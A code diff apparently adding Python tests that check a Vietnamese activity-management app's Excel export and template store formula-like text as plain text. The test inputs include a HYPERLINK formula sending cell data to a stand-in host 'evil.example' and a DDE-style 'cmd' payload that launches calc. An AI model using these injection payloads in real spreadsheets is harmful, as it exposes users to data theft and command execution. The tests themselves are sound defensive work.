@@ -859,3 +859,64 @@ def test_the_report_layout_reads_names_and_counts_a_joint_activity_once(
     assert rows[1][7] == str(program)
     assert rows[-1][2] == f"{excel.TOTALS_PREFIX} 2 hoạt động"
     assert rows[-1][8:] == (125, 80, 0, 2_000_000)
+
+
+# --- formula injection (issue 9, item 6) ------------------------------------------------------
+
+
+def _formula_cells(data: bytes) -> list[tuple[str, str, object]]:
+    """Every cell of every sheet that Excel would evaluate: (sheet, coordinate, value)."""
+    book = load_workbook(io.BytesIO(data))
+    return [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+def test_export_writes_text_that_would_start_a_formula_as_text(coded_hanoi_union):
+    _create(
+        coded_hanoi_union,
+        title='=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")',
+        place="+84 Hà Nội",
+        description="@SUM(1+1)\tcmd",
+    )
+    _create(coded_hanoi_union, title="-2+3", place="\r=1+1")
+
+    data = excel.activities_export_workbook(Activity.objects.order_by("pk"))
+
+    book = load_workbook(io.BytesIO(data))
+    sheet = book[excel.SHEET_TITLE]
+    titles = [(cell.value, cell.data_type, cell.quotePrefix) for cell in sheet["A"][1:3]]
+    assert titles == [
+        ('=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")', "s", True),
+        ("-2+3", "s", True),
+    ]
+    assert _formula_cells(data) == []
+
+
+def test_template_lists_a_unit_named_like_a_formula_as_text(hanoi_union_officer, hanoi_union):
+    org_services.unit_update(unit=hanoi_union, actor=None, name="=1+cmd|' /C calc'!A0")
+
+    data = excel.activities_template_workbook(hanoi_union_officer)
+
+    assert "=1+cmd|' /C calc'!A0" in [
+        value for row in _sheet_rows(data, "Danh mục") for value in row
+    ]
+    assert _formula_cells(data) == []
+
+
+def test_export_with_formula_like_text_imports_back_unchanged(coded_hanoi_union):
+    _create(coded_hanoi_union, title="=1+1 không phải công thức", place="-Hội trường")
+    admin = account_factories.user("admin", is_superuser=True)
+    data = excel.activities_export_workbook(Activity.objects.order_by("pk"))
+
+    job = run(actor=admin, data=data)
+
+    assert job.status == "done"
+    assert list(Activity.objects.order_by("pk").values_list("title", "place")) == [
+        ("=1+1 không phải công thức", "-Hội trường"),
+        ("=1+1 không phải công thức", "-Hội trường"),
+    ]
